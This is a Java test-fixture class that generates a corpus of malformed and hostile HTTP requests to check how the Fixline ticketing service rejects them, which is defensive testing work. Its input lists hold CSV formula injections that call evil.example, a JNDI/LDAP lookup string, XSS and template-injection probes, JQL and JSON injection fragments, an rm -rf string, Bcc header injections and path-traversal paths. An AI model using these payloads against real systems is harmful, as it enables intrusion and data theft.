package dev.fixline.ticketing;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.fixline.DefenderRows;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Supplier;

/**
 * The hostile corpus of issue 11, generated: what an attacker with a manager's account, a misconfigured
 * exporter or a damaged file sends. Each input goes to the real HTTP port (see {@link HostileCorpusTest}). Exports
 * are built on rows shaped like Defender's (the samples and Microsoft's documented sub-assessments), each in a
 * registry of its own so that an accepted one never makes another look outdated.
 */
final class HostileCorpus {

    /** A request of the corpus; {@code expectStatus} and {@code expectDetail} are checked when set. */
    record Input(String kind, String name, String method, String path, String contentType, Supplier<byte[]> body,
                 Map<String, String> headers, String user, Integer expectStatus, String expectDetail,
                 Payload payload) {

        @Override
        public String toString() {
            return kind + ": " + name;
        }
    }

    /**
     * A value an accepted input carries into what Fixline shows, mails and sends to Jira, checked there after the
     * corpus ran: stored verbatim, shown escaped, never a header or a piece of JSON structure.
     */
    record Payload(String registryHost, String field, String value, boolean opensCase) {
    }

    static final String EXPORTS = "/api/sweeps";
    static final String WEBHOOK = "/api/webhooks/jira";
    static final Instant LONG_OVERDUE_PUSH = Instant.parse("2015-03-01T00:00:00Z");
    static final Instant LONG_OVERDUE_SCAN = Instant.parse("2015-03-02T00:00:00Z");

    private final ObjectMapper json = new ObjectMapper();
    private final List<Input> inputs = new ArrayList<>();
    private int serial;

    static List<Input> generate() {
        HostileCorpus corpus = new HostileCorpus();
        corpus.deepNesting();
        corpus.longKeys();
        corpus.longStrings();
        corpus.longNumbers();
        corpus.outOfRangeNumbers();
        corpus.truncation();
        corpus.wrongTypes();
        corpus.invalidUtf8();
        corpus.byteOrderMarks();
        corpus.csvFormulas();
        corpus.htmlAndScript();
        corpus.jqlAndJsonFragments();
        corpus.lineBreaksForMailHeaders();
        corpus.controlCharacters();
        corpus.duplicateKeys();
        corpus.oddPaths();
        corpus.oddQueryParameters();
        return corpus.inputs;
    }

    // ---- classes ------------------------------------------------------------------------------------------------

    private void deepNesting() {
        String kind = "deep nesting";
        for (int depth : new int[] {10, 50, 90, 95, 96, 97, 98, 99, 100, 101, 150, 1_000, 1_001, 100_000}) {
            // Inside a row (a field of its own): the array of rows and the row add two levels.
            boolean within = depth + 2 <= 100;
            exportRow(kind, "array nested " + depth + " deep in a row", rowText(r -> { }).replaceFirst("\\{",
                    "{\"extra\":" + "[".repeat(depth) + "]".repeat(depth) + ","), within ? null : 400,
                    within ? null : "fixline.limits.max-nesting-depth");
            exportRow(kind, "object nested " + depth + " deep in a row", rowText(r -> { }).replaceFirst("\\{",
                    "{\"extra\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + ","), within ? null : 400,
                    within ? null : "fixline.limits.max-nesting-depth");
            webhook(kind, "webhook nested " + depth + " deep", "{\"webhookEvent\":\"jira:issue_updated\",\"x\":"
                    + "[".repeat(depth) + "]".repeat(depth) + "}", depth + 1 <= 100 ? 200 : 400,
                    depth + 1 <= 100 ? null : "fixline.limits.max-nesting-depth");
        }
        add(kind, "50 MB row of nested {} (issue 11's OutOfMemoryError)", "POST", EXPORTS, "application/json",
                () -> nestedRow(50 * 1024 * 1024), null, "manager", 413, "fixline.limits.max-row-size", null);
        add(kind, "top-level arrays 5,000 deep", "POST", EXPORTS, "application/json",
                () -> bytes("[".repeat(5_000) + "]".repeat(5_000)), null, "manager", 400, null, null);
    }

    private void longKeys() {
        String kind = "long keys";
        for (int length : new int[] {999, 1_000, 1_001, 5_000, 50_001, 200_000}) {
            boolean within = length <= 1_000;
            String key = "k".repeat(length);
            exportRow(kind, "row key of " + length, rowText(r -> { }).replaceFirst("\\{", "{\"" + key + "\":1,"),
                    within ? null : 400, within ? null : "fixline.limits.max-name-length");
            exportText(kind, "top-level key of " + length, "{\"" + key + "\":1,\"data\":[" + rowText(r -> { })
                    + "]}", within ? null : 400, within ? null : "fixline.limits.max-name-length");
            webhook(kind, "webhook key of " + length, "{\"" + key + "\":1}", within ? 200 : 400,
                    within ? null : "fixline.limits.max-name-length");
        }
    }

    private void longStrings() {
        String kind = "long strings";
        for (int length : new int[] {257, 1_000, 100_000, 999_999, 1_000_000}) {
            String s = "s".repeat(length);
            exportRow(kind, "package name of " + length, rowText(r -> software(r).put("packageName", s)), 400,
                    "field package name: longer than 256 characters (" + length + ")");
            exportRow(kind, "unread field of " + length, rowText(r -> r.put("extra", s)), null, null);
        }
        add(kind, "a string of 1,000,001 characters", "POST", EXPORTS, "application/json",
                () -> bytes(rowArray(r -> r.put("extra", "s".repeat(1_000_001)))), null, "manager", 400,
                "fixline.limits.max-string-length", null);
        add(kind, "a string of 20,000,001 characters (Jackson's default limit + 1)", "POST", EXPORTS,
                "application/json", () -> bytes(rowArray(r -> r.put("extra", "s".repeat(20_000_001)))), null,
                "manager", 400, "fixline.limits.max-string-length", null);
        add(kind, "a row of 2,000 strings of 1,000 characters", "POST", EXPORTS, "application/json",
                () -> bytes(rowArray(r -> {
                    ArrayNode many = r.putArray("extra");
                    for (int i = 0; i < 2_000; i++) {
                        many.add("s".repeat(1_000));
                    }
                })), null, "manager", 413, "fixline.limits.max-row-size", null);
        webhook(kind, "webhook issue key of 10,000", "{\"webhookEvent\":\"jira:issue_updated\",\"issue\":{\"id\":\"1\","
                + "\"key\":\"" + "K".repeat(10_000) + "\"}}", 400, "issue.key is longer than 64 characters");
        webhook(kind, "webhook status name of 300", issueUpdated("{\"name\":\"" + "S".repeat(300) + "\"}", "null"), 400,
                "issue.fields.status.name is longer than 128 characters");
        webhook(kind, "webhook body of 11 MB", "{\"pad\":\"" + "x".repeat(11 * 1024 * 1024) + "\"}", 413,
                "fixline.limits.max-webhook-body-size");
        csv(kind, "CSV package name of 100,000", csvRow(Map.of("packageName", "p".repeat(100_000))), 400,
                "longer than 256 characters");
        csv(kind, "CSV record of 2 MB", csvRow(Map.of("tags", "t".repeat(2 * 1024 * 1024))), 413,
                "fixline.limits.max-row-size");
        add(kind, "sweep name of 513", "POST", EXPORTS + "?name=" + "n".repeat(513), "application/json",
                () -> bytes(rowArray(r -> { })), null, "manager", 400, "at most 512 characters", null);
    }

    private void longNumbers() {
        String kind = "long numbers";
        for (int digits : new int[] {15, 99, 100, 101, 1_000, 1_001, 100_000}) {
            boolean within = digits <= 100;
            String number = "9".repeat(digits);
            exportRow(kind, "cvss of " + digits + " digits", rowText(r -> { }).replace("\"cvssV30Score\":7.5",
                    "\"cvssV30Score\":" + number), within ? 400 : 400, within ? "cvss" : "fixline.limits.max-number-length");
            exportRow(kind, "unread number of " + digits + " digits", rowText(r -> r.put("extra", 0))
                    .replace("\"extra\":0", "\"extra\":" + number), within ? null : 400,
                    within ? null : "fixline.limits.max-number-length");
            exportRow(kind, "fraction of " + digits + " digits", rowText(r -> { }).replace("\"cvssV30Score\":7.5",
                    "\"cvssV30Score\":0." + "1".repeat(digits)), digits < 100 ? null : 400,
                    digits < 100 ? null : "fixline.limits.max-number-length");
        }
        for (String value : new String[] {"1e309", "-1e309", "1E400", "1e-400", "-0", "0e0", "7.5e0", "NaN", "Infinity",
                "-Infinity", "+1", "01", ".5", "5.", "0x10", "1_000"}) {
            exportRow(kind, "cvss " + value, rowText(r -> { }).replace("\"cvssV30Score\":7.5", "\"cvssV30Score\":"
                    + value), null, null);
        }
        csv(kind, "CSV cvss 1e-999999999", csvRow(Map.of("cvssV30Score", "1e-999999999")), 400, "not a CVSS score");
        csv(kind, "CSV cvss of 5,000 digits", csvRow(Map.of("cvssV30Score", "9".repeat(5_000))), 400, "cvss");
    }

    private void outOfRangeNumbers() {
        String kind = "out-of-range numbers";
        for (String cvss : new String[] {"-1", "-0.1", "10.01", "11", "1e5", "255", "4294967296"}) {
            exportRow(kind, "cvss " + cvss, rowText(r -> { }).replace("\"cvssV30Score\":7.5", "\"cvssV30Score\":"
                    + cvss), 400, "cvss");
        }
        for (String time : new String[] {"9999-12-31T23:59:59Z", "1970-01-01T00:00:00Z", "0001-01-01T00:00:00Z",
                "+100000-01-01T00:00:00Z", "2026-13-45T99:99:99Z", "-1"}) {
            exportRow(kind, "timeGenerated " + time, rowText(r -> r.withObjectProperty("properties").put("timeGenerated", time)),
                    400, null);
        }
        exportRow(kind, "timeGenerated as epoch number", rowText(r -> r.withObjectProperty("properties").put("timeGenerated",
                Long.MAX_VALUE)), 400, null);
        for (String query : new String[] {"page=2147483647&size=1000", "page=2147483648", "page=-1", "size=0",
                "size=-5", "size=1001", "size=2147483647", "page=99999999999999999999"}) {
            get(kind, "GET /api/sweeps?" + query, "/api/sweeps?" + query);
        }
    }

    private void truncation() {
        String kind = "truncation";
        for (String sample : new String[] {"samples/day-1.json", "src/test/resources/defender/aws-ecr-subassessment.json",
                "src/test/resources/defender/gcp-gar-subassessment.json",
                "src/test/resources/defender/qualys-rest-list.json"}) {
            byte[] whole = read(sample);
            int cuts = sample.startsWith("samples") ? 30 : 12;
            for (int i = 1; i <= cuts; i++) {
                int at = (int) ((long) whole.length * i / (cuts + 1));
                byte[] cut = java.util.Arrays.copyOf(whole, at);
                add(kind, Path.of(sample).getFileName() + " cut at byte " + at, "POST", EXPORTS, "application/json",
                        () -> cut, null, "manager", 400, "malformed or truncated JSON", null);
            }
        }
        for (int i = 1; i <= 14; i++) {
            int cutAt = i;
            String csv = csvRow(Map.of());
            add(kind, "portal CSV cut at " + i + "/15", "POST", EXPORTS, "text/csv",
                    () -> bytes(csv.substring(0, csv.length() * cutAt / 15)), null, "manager", null, null, null);
        }
    }

    private void wrongTypes() {
        String kind = "wrong types";
        String[] paths = {"id", "properties", "properties.status", "properties.status.code", "properties.status.severity",
                "properties.timeGenerated", "properties.additionalData", "properties.additionalData.artifactDetails",
                "properties.additionalData.artifactDetails.registryHost",
                "properties.additionalData.artifactDetails.repositoryName",
                "properties.additionalData.artifactDetails.digest",
                "properties.additionalData.artifactDetails.lastPushedToRegistryUTC",
                "properties.additionalData.softwareDetails",
                "properties.additionalData.softwareDetails.packageName",
                "properties.additionalData.softwareDetails.version",
                "properties.additionalData.softwareDetails.fixedVersion",
                "properties.additionalData.softwareDetails.fixStatus",
                "properties.additionalData.vulnerabilityDetails", "properties.additionalData.vulnerabilityDetails.cveId",
                "properties.additionalData.cvssV30Score"};
        Map<String, Supplier<JsonNode>> types = new LinkedHashMap<>();
        types.put("number", () -> json.getNodeFactory().numberNode(42));
        types.put("boolean", () -> json.getNodeFactory().booleanNode(true));
        types.put("null", () -> json.getNodeFactory().nullNode());
        types.put("array", () -> json.createArrayNode().add("x"));
        types.put("object", () -> json.createObjectNode().put("x", 1));
        for (String path : paths) {
            for (Map.Entry<String, Supplier<JsonNode>> type : types.entrySet()) {
                exportRow(kind, path + " as " + type.getKey(), rowText(r -> set(r, path, type.getValue().get())),
                        null, null);
            }
        }
        for (Map.Entry<String, String> value : Map.of("cvssV30Score", "high", "timeGenerated", "yesterday",
                "scanFindingSeverity", "7", "lastPushedToRegistryUTC", "not a time", "imageDigest", "",
                "repositoryName", " ").entrySet()) {
            csv(kind, "CSV " + value.getKey() + " '" + value.getValue() + "'", csvRow(Map.of(value.getKey(),
                    value.getValue())), 400, null);
        }
        for (String body : new String[] {"\"a string\"", "42", "true", "null", "[[]]", "[\"x\"]", "{}", "{\"data\":{}}",
                "{\"data\":\"x\"}", "{\"value\":3}", "[null]"}) {
            exportText(kind, "body " + body, body, 400, null);
        }
        webhook(kind, "webhook body a JSON string", "\"x\"", 200, null);
        webhook(kind, "webhook issue an array", "{\"webhookEvent\":\"jira:issue_updated\",\"issue\":[1]}", 200, null);
        webhook(kind, "webhook issue id an object", "{\"webhookEvent\":\"jira:issue_updated\",\"issue\":{\"id\":{}}}",
                200, null);
        webhook(kind, "webhook timestamp a string", "{\"timestamp\":\"soon\",\"issue\":{\"id\":\"77001\"}}", 200, null);
    }

    private void invalidUtf8() {
        String kind = "invalid UTF-8";
        byte[][] sequences = {{(byte) 0xFF}, {(byte) 0xC3, 0x28}, {(byte) 0xA0, (byte) 0xA1},
                {(byte) 0xE2, 0x28, (byte) 0xA1}, {(byte) 0xF0, 0x28, (byte) 0x8C, (byte) 0xBC},
                {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF8, (byte) 0x88,
                (byte) 0x80, (byte) 0x80, (byte) 0x80}};
        for (byte[] bad : sequences) {
            String hex = hex(bad);
            exportBytes(kind, "JSON package name with " + hex, splice(rowArray(r -> software(r)
                    .put("packageName", "lib@@")), "@@", bad), 400, null);
            add(kind, "CSV package name with " + hex, "POST", EXPORTS, "text/csv",
                    () -> splice(csvRow(Map.of("packageName", "lib@@")), "@@", bad), null, "manager", 400,
                    "not UTF-8", null);
            byte[] signed = splice("{\"webhookEvent\":\"jira:issue_updated\",\"issue\":{\"id\":\"77002\",\"key\":\"SEC-@@\"}}",
                    "@@", bad);
            add(kind, "webhook key with " + hex, "POST", WEBHOOK, "application/json", () -> signed, null, "webhook",
                    null, null, null);
        }
    }

    private void byteOrderMarks() {
        String kind = "byte-order marks";
        byte[] utf8Bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        exportBytes(kind, "UTF-8 BOM before a JSON export", concat(utf8Bom, bytes(rowArray(r -> { }))), 202, null);
        add(kind, "UTF-8 BOM before a portal CSV", "POST", EXPORTS, "text/csv",
                () -> concat(utf8Bom, bytes(csvRow(Map.of()))), null, "manager", 202, null, null);
        exportBytes(kind, "two UTF-8 BOMs", concat(utf8Bom, utf8Bom, bytes(rowArray(r -> { }))), 400, null);
        exportBytes(kind, "UTF-8 BOM inside a value", splice(rowArray(r -> software(r).put("packageName", "lib@@")),
                "@@", utf8Bom), null, null);
        exportBytes(kind, "UTF-16LE with BOM", concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                rowArray(r -> { }).getBytes(StandardCharsets.UTF_16LE)), 202, null);
        exportBytes(kind, "UTF-16BE with BOM", concat(new byte[] {(byte) 0xFE, (byte) 0xFF},
                rowArray(r -> { }).getBytes(StandardCharsets.UTF_16BE)), 202, null);
        exportBytes(kind, "UTF-16LE without BOM", rowArray(r -> { }).getBytes(StandardCharsets.UTF_16LE), 202, null);
        exportBytes(kind, "UTF-32BE with BOM", concat(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF},
                rowArray(r -> { }).getBytes(Charset.forName("UTF-32BE"))), null, null);
        add(kind, "UTF-16LE portal CSV with BOM", "POST", EXPORTS, "text/csv", () -> concat(new byte[] {(byte) 0xFF,
                (byte) 0xFE}, csvRow(Map.of()).getBytes(StandardCharsets.UTF_16LE)), null, "manager", 400,
                "not UTF-8", null);
        add(kind, "UTF-16BE portal CSV with BOM", "POST", EXPORTS, "text/csv", () -> concat(new byte[] {(byte) 0xFE,
                (byte) 0xFF}, csvRow(Map.of()).getBytes(StandardCharsets.UTF_16BE)), null, "manager", 400,
                "not UTF-8", null);
        add(kind, "UTF-8 BOM before a webhook", "POST", WEBHOOK, "application/json",
                () -> concat(utf8Bom, bytes("{\"webhookEvent\":\"x\"}")), null, "webhook", null, null, null);
    }

    private void csvFormulas() {
        String kind = "CSV formula injection";
        String[] formulas = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3",
                "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"};
        for (String formula : formulas) {
            payloadExport(kind, "repository " + formula, "repository", formula);
            payloadCsv(kind, "CSV package " + formula, "packageName", formula);
        }
        // A TAB or CR before a formula is trimmed like white space: the formula is kept, as the others are.
        keptAs(kind, "repository starting with TAB", "repository", "\t=1+1", "=1+1");
        keptAs(kind, "repository starting with CR", "repository", "\r=1+1", "=1+1");
        add(kind, "sweep name =cmd|' /C calc'!A0", "POST", EXPORTS + "?name=" + enc("=cmd|' /C calc'!A0"),
                "application/json", () -> bytes(rowArray(r -> { })), null, "manager", 202, null, null);
    }

    private void htmlAndScript() {
        String kind = "HTML and script in names";
        String[] markup = {"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</script><script>alert(2)</script>",
                "javascript:alert(3)", "<svg/onload=alert(4)>", "[[${T(java.lang.Runtime).getRuntime()}]]",
                "__${7*7}__::x", "{{7*7}}", "&lt;b&gt;already escaped&lt;/b&gt;", "<!--", "' onmouseover='alert(5)"};
        for (String value : markup) {
            payloadExport(kind, "repository " + value, "repository", value);
            payloadExport(kind, "CVE id " + value, "cve", value);
        }
        add(kind, "sweep name <script>", "POST", EXPORTS + "?name=" + enc("<script>alert(1)</script>"),
                "application/json", () -> bytes(rowArray(r -> { })), null, "manager", 202, null, null);
        get(kind, "GET /api/cases?repository=<script>", "/api/cases?repository=" + enc("<script>alert(1)</script>"));
    }

    private void jqlAndJsonFragments() {
        String kind = "JQL and JSON fragments to Jira";
        String[] fragments = {"\" OR project = EVIL OR summary ~ \"", "x) OR (labels is EMPTY",
                "\"},\"project\":{\"key\":\"EVIL\"},\"x\":{\"y\":\"", "\\\"}],\"fields\":{\"project\":{\"key\":\"EVIL\"}}",
                "${jndi:ldap://evil.example/a}", "{code}rm -rf /{code}", "[~accountid:5b10ac8d82e05b22cc7d0001]",
                "%22%7D%2C%22project%22", "\\u0022}", "*/ ORDER BY key --"};
        for (String fragment : fragments) {
            payloadExport(kind, "package " + fragment, "package", fragment);
        }
        webhook(kind, "webhook with JQL in the status", issueUpdated("{\"name\":\"Done\\\" OR 1=1 --\"}", "null"), 200,
                null);
        webhook(kind, "webhook with JSON in the resolution", issueUpdated("{\"name\":\"Done\"}",
                "{\"name\":\"\\\"},{\\\"x\\\":1\"}"), 200, null);
    }

    private void lineBreaksForMailHeaders() {
        String kind = "CR/LF toward mail headers";
        String[] breaks = {"\r\nBcc: victim@evil.example", "\nBcc: victim@evil.example", "\rSubject: other",
                "%0d%0aBcc: victim@evil.example", "\r\n\r\n<html>body</html>"};
        for (String value : breaks) {
            String shown = value.replace("\r", "\\r").replace("\n", "\\n");
            exportRow(kind, "package " + shown, rowText(r -> software(r).put("packageName", "lib" + value + "x")),
                    value.startsWith("%") ? null : 400, value.startsWith("%") ? null : "field package name: holds a");
            exportRow(kind, "CVE id " + shown, rowText(r -> vulnerability(r).put("cveId", "CVE-2024-1" + value + "x")),
                    value.startsWith("%") ? null : 400, value.startsWith("%") ? null : "field vulnerability id: holds a");
            exportRow(kind, "repository " + shown, rowText(r -> artifact(r).put("repositoryName", "app" + value + "x")),
                    value.startsWith("%") ? null : 400, value.startsWith("%") ? null : "field repository: holds a");
        }
        payloadExport(kind, "repository with U+2028 (a line separator, not a control character)", "repository",
                "app\u2028Bcc: victim@evil.example");
        exportRow(kind, "repository with U+0085 (NEL)", rowText(r -> artifact(r).put("repositoryName", "app\u0085x")),
                400, "field repository: holds a control character (U+0085)");
        webhook(kind, "webhook resolution with CR/LF", issueUpdated("{\"name\":\"Done\"}",
                "{\"name\":\"Done\\r\\nBcc: victim@evil.example\"}"), 400,
                "issue.fields.resolution.name holds a carriage return");
        webhook(kind, "webhook assignee mail with CR/LF", "{\"webhookEvent\":\"jira:issue_updated\",\"issue\":{\"id\":"
                + "\"77003\",\"fields\":{\"assignee\":{\"name\":\"x\",\"emailAddress\":\"a@b.example\\r\\nBcc: v@evil"
                + ".example\"}}}}", 400, "issue.fields.assignee.emailAddress holds a carriage return");
        add(kind, "exception reason with CR/LF (free text: allowed, the case is unknown)", "POST",
                "/api/cases/no-such-case/exception-decision", "application/json",
                () -> bytes("{\"approved\":true,\"reason\":\"line one\\r\\nBcc: victim@evil.example\"}"), null,
                "manager", 404, "no-such-case", null);
    }

    private void controlCharacters() {
        String kind = "NUL and control characters";
        Map<String, String> controls = new LinkedHashMap<>();
        controls.put("NUL", "\u0000");
        controls.put("SOH", "\u0001");
        controls.put("BEL", "\u0007");
        controls.put("TAB", "\t");
        controls.put("ESC", "\u001b[31m");
        controls.put("DEL", "\u007f");
        controls.put("C1 CSI", "\u009b");
        for (Map.Entry<String, String> control : controls.entrySet()) {
            String c = control.getValue();
            String n = control.getKey();
            exportRow(kind, n + " in package", rowText(r -> software(r).put("packageName", "li" + c + "b")), 400,
                    "field package name: holds a");
            exportRow(kind, n + " in installed version", rowText(r -> software(r).put("version", "1." + c + "0")), 400,
                    "field installed version: holds a");
            exportRow(kind, n + " in fixed version", rowText(r -> software(r).put("fixedVersion", "1." + c + "1")), 400,
                    "field fixed version: holds a");
            exportRow(kind, n + " in CVE id", rowText(r -> vulnerability(r).put("cveId", "CVE-" + c + "2024-2")), 400,
                    "field vulnerability id: holds a");
            exportRow(kind, n + " in digest", rowText(r -> artifact(r).put("digest", "sha256:" + c + "a".repeat(60))),
                    400, "field digest: holds a");
            exportRow(kind, n + " in severity", rowText(r -> r.withObjectProperty("properties")
                    .withObjectProperty("status").put("severity", "Hi" + c + "gh")), 400, null);
            csv(kind, n + " in CSV repository", csvRow(Map.of("repositoryName", "ap" + c + "p")), 400,
                    "field repository: holds a");
            if (c.length() == 1 && c.charAt(0) <= ' ') {
                keptAs(kind, n + " at the end of a package (trimmed)", "package", "lib" + c, "lib");
            }
            add(kind, n + " in the sweep name", "POST", EXPORTS + "?name=" + enc("na" + c + "me"), "application/json",
                    () -> bytes(rowArray(r -> { })), null, "manager", 400, null, null);
            get(kind, n + " in ?owner=", "/api/cases?owner=" + enc("ow" + c + "ner"));
            add(kind, n + " in an exception reason", "POST", "/api/cases/no-such-case/exception-decision",
                    "application/json", () -> bytes("{\"approved\":true,\"reason\":\"why" + jsonEscape(c) + "\"}"),
                    null, "manager", c.equals("\t") ? 404 : 400, null, null);
            webhook(kind, n + " in the webhook issue id", "{\"webhookEvent\":\"jira:issue_updated\",\"issue\":{\"id\":\"77"
                    + jsonEscape(c) + "\"}}", 400, "issue.id holds a");
        }
    }

    private void duplicateKeys() {
        String kind = "duplicate keys";
        String row = rowText(r -> { });
        exportRow(kind, "severity Low then Critical", row.replaceFirst("\"severity\":\"Low\"",
                "\"severity\":\"Low\",\"severity\":\"Critical\""), 400, "Duplicate field 'severity'");
        exportRow(kind, "id twice", row.replaceFirst("\\{\"id\":", "{\"id\":\"x\",\"id\":"), 400, "Duplicate field 'id'");
        exportRow(kind, "properties twice", row.replaceFirst("\"properties\":", "\"properties\":{},\"properties\":"),
                400, "Duplicate field 'properties'");
        exportRow(kind, "packageName twice", row.replaceFirst("\"packageName\":", "\"packageName\":\"a\",\"packageName\":"),
                400, "Duplicate field 'packageName'");
        exportText(kind, "data twice", "{\"data\":[],\"data\":[" + row + "]}", 400, "Duplicate field 'data'");
        exportRow(kind, "keys differing in case", row.replaceFirst("\"severity\":\"Low\"",
                "\"severity\":\"Low\",\"Severity\":\"Critical\""), null, null);
        exportRow(kind, "severity with dotless i", row.replaceFirst("\"severity\":\"Low\"",
                "\"severity\":\"Cr\u0131t\u0131cal\""), 400, "unknown severity");
        csv(kind, "CSV column twice", csvRow(Map.of()).replaceFirst("packageName", "repositoryName"), 400,
                "names this column twice");
        webhook(kind, "webhook event twice", "{\"webhookEvent\":\"a\",\"webhookEvent\":\"b\"}", 200, null);
        webhook(kind, "webhook issue twice", "{\"issue\":{\"id\":\"77004\"},\"issue\":{\"id\":\"77005\"}}", 200, null);
    }

    private void oddPaths() {
        String kind = "odd paths";
        for (String path : new String[] {"//api/sweeps", "/api//sweeps", "/api/sweeps/", "/api/sweeps;x=y",
                "/api/%2e%2e/api/sweeps", "/api/sweeps/%2e%2e/cases", "/api/cases/%00", "/api/cases/%0d%0aX:1",
                "/api/cases/..%2f..%2fetc", "/API/SWEEPS", "/api/sweeps/../cases", "/api/cases/%ff", "/api/cases/%C0%AF",
                "/api/cases/%3Cscript%3E", "/api/cases/" + "x".repeat(4_000), "/api/cases/%25", "/api/nope",
                "/api/sweeps/%20", "/api/findings/%E2%80%AE", "/manager/..;/api/cases", "/%2e/api/cases",
                "/api/cases/x%2Fy", "/api/cases/x%5Cy", "/api/cases/.", "/api/cases/a;jsessionid=1"}) {
            get(kind, "GET " + path, path);
        }
        add(kind, "DELETE /api/sweeps", "DELETE", "/api/sweeps", null, null, null, "manager", 405, null, null);
        add(kind, "PUT /api/cases/x", "PUT", "/api/cases/x", "application/json", () -> bytes("{}"), null, "manager",
                405, null, null);
        add(kind, "POST /api/sweeps as text/plain", "POST", EXPORTS, "text/plain", () -> bytes("[]"), null, "manager",
                415, null, null);
        add(kind, "POST /api/sweeps as application/xml", "POST", EXPORTS, "application/xml", () -> bytes("<x/>"), null,
                "manager", 415, null, null);
    }

    private void oddQueryParameters() {
        String kind = "odd query parameters";
        for (String query : new String[] {"page=abc", "page=1e3", "page=", "size=", "page=0x10", "page=%00",
                "page[]=1", "page=1&page=2", "state=SHUT", "state=%C4%B1open", "state=open%00",
                "cve=%0d%0aX:1", "team=%27%20OR%201=1%20--",
                "owner=" + "o".repeat(2_000), "repository=%FF", "breached=maybe", "breached=%00", "x=" + "%00".repeat(10),
                "%00=1", "a=%", "a=%zz", "=", "&&&", "page=1;size=2", "severity=cr%C4%B1t%C4%B1cal"}) {
            get(kind, "GET /api/cases?" + query, "/api/cases?" + query);
        }
        // Names match in ASCII only: a dotless ı does not fold onto I (AsciiCase).
        add(kind, "GET /api/findings?severity=Cr\u0131t\u0131cal", "GET", "/api/findings?severity="
                + enc("Cr\u0131t\u0131cal"), null, null, null, "manager", 400, "is not one of", null);
        add(kind, "GET /api/cases?state=awa\u0131t\u0131ng_verification", "GET", "/api/cases?state="
                + enc("awa\u0131t\u0131ng_verification"), null, null, null, "manager", 400, "is not one of", null);
        add(kind, "GET /api/cases?state=Awaiting_Verification (ASCII, any case)", "GET",
                "/api/cases?state=Awaiting_Verification", null, null, null, "manager", 200, null, null);
        get(kind, "GET /api/findings?state=%C4%B1", "/api/findings?state=" + enc("\u0131"));
        get(kind, "GET /api/notifications?case=%00", "/api/notifications?case=%00");
        get(kind, "GET /api/ownership/resolve?registry=%00", "/api/ownership/resolve?registry=%00&repository=x");
        add(kind, "GET /api/ownership/resolve?cloud=a\u017Fure (long s)", "GET", "/api/ownership/resolve?registry=r&repository=x"
                + "&cloud=" + enc("a\u017Fure"), null, null, null, "manager", 400, "cloud", null);
        StringBuilder many = new StringBuilder("/api/cases?");
        for (int i = 0; i < 500; i++) {
            many.append("p").append(i).append("=1&");
        }
        get(kind, "GET /api/cases with 500 parameters", many.toString());
    }

    // ---- requests ---------------------------------------------------------------------------------------------

    private void add(String kind, String name, String method, String path, String contentType, Supplier<byte[]> body,
                     Map<String, String> headers, String user, Integer status, String detail, Payload payload) {
        inputs.add(new Input(kind, name, method, path, contentType, body, headers == null ? Map.of() : headers, user,
                status, detail, payload));
    }

    /** A whole export body. */
    private void exportText(String kind, String name, String body, Integer status, String detail) {
        add(kind, name, "POST", EXPORTS, "application/json", () -> bytes(body), null, "manager", status, detail, null);
    }

    /** An export of one row, given as JSON text. */
    private void exportRow(String kind, String name, String row, Integer status, String detail) {
        exportText(kind, name, "[" + row + "]", status, detail);
    }

    private void exportBytes(String kind, String name, byte[] body, Integer status, String detail) {
        add(kind, name, "POST", EXPORTS, "application/json", () -> body, null, "manager", status, detail, null);
    }

    private void csv(String kind, String name, String body, Integer status, String detail) {
        add(kind, name, "POST", EXPORTS, "text/csv", () -> bytes(body), null, "manager", status, detail, null);
    }

    private void get(String kind, String name, String path) {
        add(kind, name, "GET", path, null, null, null, "manager", null, null, null);
    }

    private void webhook(String kind, String name, String body, Integer status, String detail) {
        add(kind, name, "POST", WEBHOOK, "application/json", () -> bytes(body), null, "webhook", status, detail, null);
    }

    /** An accepted export whose one High row, long overdue, carries {@code value} in {@code field}. */
    private void payloadExport(String kind, String name, String field, String value) {
        DefenderRows rows = new DefenderRows(json, "hc");
        ObjectNode row = rows.row("app/api", "sha256:" + "c".repeat(64), LONG_OVERDUE_PUSH, LONG_OVERDUE_SCAN,
                "CVE-2024-7" + (++serial), "High", rows.os(null), "libfoo", "1.0.0", "1.0.1");
        switch (field) {
            case "repository" -> artifact(row).put("repositoryName", value);
            case "package" -> software(row).put("packageName", value);
            case "cve" -> vulnerability(row).put("cveId", value);
            default -> throw new IllegalArgumentException(field);
        }
        String body = "{\"data\":[" + row + "],\"resultTruncated\":\"false\"}";
        add(kind, name, "POST", EXPORTS, "application/json", () -> bytes(body), null, "manager", 202, null,
                new Payload(rows.registryHost(), field, value, true));
    }

    private void payloadCsv(String kind, String name, String column, String value) {
        String registry = "hcsv" + (++serial) + ".azurecr.io";
        String csv = csvRow(Map.of(column, value, "registryName", registry));
        add(kind, name, "POST", EXPORTS, "text/csv", () -> bytes(csv), null, "manager", 202, null,
                new Payload(registry, "package", value, false));
    }

    // ---- documents ----------------------------------------------------------------------------------------------

    /**
     * An accepted export of one Low row whose {@code field} is given as {@code sent} and kept as {@code kept}
     * (values are trimmed: white space and control characters at either end go).
     */
    private void keptAs(String kind, String name, String field, String sent, String kept) {
        DefenderRows rows = new DefenderRows(json, "hc");
        String row = rowText(rows, r -> {
            switch (field) {
                case "repository" -> artifact(r).put("repositoryName", sent);
                case "package" -> software(r).put("packageName", sent);
                default -> throw new IllegalArgumentException(field);
            }
        });
        add(kind, name, "POST", EXPORTS, "application/json", () -> bytes("[" + row + "]"), null, "manager", 202, null,
                new Payload(rows.registryHost(), field, kept, false));
    }

